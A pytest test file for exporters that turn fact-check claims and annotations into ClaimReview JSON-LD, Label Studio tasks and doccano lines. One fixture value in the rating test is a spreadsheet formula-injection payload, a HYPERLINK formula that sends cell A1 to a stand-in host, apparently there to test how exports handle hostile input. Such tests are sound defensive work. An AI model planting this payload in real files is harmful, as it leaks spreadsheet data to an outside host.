"""ClaimReview, Label Studio and doccano: required fields and the shapes the tools expect."""

from __future__ import annotations

import json
import xml.etree.ElementTree as ET
from typing import Any

import pytest
from bundles import bundles, context

from app.export.claimreview import CLAIM_REVIEWED_MAX, shorten, write_claimreview
from app.export.doccano import write_doccano
from app.export.labelstudio import labelstudio_config, write_labelstudio


@pytest.fixture(scope="module")
def reviews() -> list[dict[str, Any]]:
    return json.loads(b"".join(write_claimreview(context(), bundles())))


def test_only_claims_with_a_completed_verification_are_reviewed(reviews: list[dict[str, Any]]) -> None:
    assert [r["identifier"].rsplit("#c", 1)[1] for r in reviews] == ["102", "105", "107", "110"]


def test_google_required_fields(reviews: list[dict[str, Any]]) -> None:
    for review in reviews:
        assert review["@context"] == "https://schema.org" and review["@type"] == "ClaimReview"
        assert review["url"].startswith("http")
        assert 0 < len(review["claimReviewed"]) <= CLAIM_REVIEWED_MAX
        assert review["reviewRating"]["@type"] == "Rating" and review["reviewRating"]["alternateName"]
        assert review["author"] == {
            "@type": "Organization", "name": "Karabakh “2020” coverage, fact-check desk",
            "url": "http://127.0.0.1:5000/projects/karabakh-2020",
        }
        assert review["itemReviewed"]["@type"] == "Claim"


def test_rating_scale_url_author_and_appearance(reviews: list[dict[str, Any]]) -> None:
    by_id = {r["identifier"].rsplit("#c", 1)[1]: r for r in reviews}
    false_claim = by_id["102"]
    assert false_claim["reviewRating"] == {
        "@type": "Rating", "alternateName": '=HYPERLINK("http://x/?"&A1,"click")', "name": "False",
        "ratingValue": 1, "bestRating": 5, "worstRating": 1,
    }
    assert false_claim["url"] == "https://example.org/report?a=1,b=2"
    assert false_claim["citation"] == ["https://example.org/second"]
    assert false_claim["datePublished"] == "2025-01-21"
    item = false_claim["itemReviewed"]
    assert item["author"] == {"@type": "Person", "name": "Ilham Aliyev", "jobTitle": "President of Azerbaijan",
                              "sameAs": "https://www.wikidata.org/wiki/Q100001"}
    assert item["appearance"][0]["url"] == "https://www.trtworld.com/example-article"
    assert item["datePublished"] == "2020-07-14"
    disputed = by_id["107"]["reviewRating"]
    assert "ratingValue" not in disputed and disputed["alternateName"] == "-2+3"
    assert by_id["110"]["reviewRating"]["alternateName"] == "True"  # no verdict text: the status label
    assert by_id["110"]["url"] == "http://127.0.0.1:5000/documents/11#c110"
    assert by_id["110"]["itemReviewed"]["author"]["@type"] == "Organization"


def test_claim_reviewed_is_shortened_with_an_ellipsis_and_kept_whole_elsewhere(reviews: list[dict[str, Any]]) -> None:
    long_text = "word " * 40
    assert shorten(long_text).endswith("…") and len(shorten(long_text)) <= CLAIM_REVIEWED_MAX
    assert shorten("short claim") == "short claim"
    assert shorten("a" * 200) == "a" * 74 + "…"
    for review in reviews:
        assert review["itemReviewed"]["text"].startswith(review["claimReviewed"].rstrip("…"))


@pytest.fixture(scope="module")
def tasks() -> list[dict[str, Any]]:
    return json.loads(b"".join(write_labelstudio(context(), bundles())))


def test_label_studio_tasks_and_annotations(tasks: list[dict[str, Any]]) -> None:
    assert [t["id"] for t in tasks] == [11, 12, 13]
    assert tasks[0]["data"]["text"] == bundles()[0].document.text
    first = tasks[0]["annotations"]
    assert [a["completed_by"] for a in first] == ["alice", "bob", "carol"]
    assert [a["ground_truth"] for a in first] == [False, False, True]
    ids = [a["id"] for t in tasks for a in t["annotations"]]
    assert ids == sorted(set(ids))


def test_label_studio_regions_always_carry_their_text(tasks: list[dict[str, Any]]) -> None:
    text = tasks[0]["data"]["text"]
    for annotation in tasks[0]["annotations"]:
        for result in annotation["result"]:
            if result["type"] in ("labels", "choices"):
                value = result["value"]
                assert value["text"] == text[value["start"] : value["end"]]
    alice = tasks[0]["annotations"][0]["result"]
    assert {"type": "relation", "from_id": "c101-source", "to_id": "c101-content-0", "direction": "right",
            "labels": ["source_of"]} in alice
    choices = {(r["id"], r["from_name"]): r["value"]["choices"] for r in alice if r["type"] == "choices"}
    assert choices[("c101-content-0", "attribution")] == ["mixed"]
    assert choices[("c101-content-0", "stance_T2")] == ["against"]


def test_label_studio_config_declares_every_control_used(tasks: list[dict[str, Any]]) -> None:
    config = ET.fromstring(labelstudio_config(context()))
    names = {element.get("name") for element in config.iter() if element.get("name")}
    used = {r["from_name"] for t in tasks for a in t["annotations"] for r in a["result"] if "from_name" in r}
    assert used <= names
    labels = {e.get("value") for e in config.iter("Label")}
    assert {"SOURCE", "CUE", "CONTENT", "loaded_language"} <= labels
    relations = {e.get("value") for e in config.iter("Relation")}
    assert relations == {"source_of", "cue_of", "segment_of"}


def test_doccano_lines_per_document_and_layer() -> None:
    lines = [json.loads(line) for line in b"".join(write_doccano(context(), bundles())).splitlines()]
    assert [(line["id"], line["meta"]["layer"]) for line in lines] == [
        (11, "alice"), (11, "bob"), (11, "gold"), (12, None), (13, "gold"),
    ]
    alice = lines[0]
    for entity in alice["entities"]:
        assert set(entity) == {"id", "label", "start_offset", "end_offset"}
    assert alice["label"] == [[e["start_offset"], e["end_offset"], e["label"]] for e in alice["entities"]]
    labels = {e["label"] for e in alice["entities"]}
    assert labels == {"CONTENT", "SOURCE", "CUE", "BIAS:loaded_language", "BIAS:epistemic"}
    assert {r["type"] for r in alice["relations"]} == {"source_of", "cue_of", "segment_of"}
    assert lines[3]["entities"] == [] and lines[3]["label"] == []
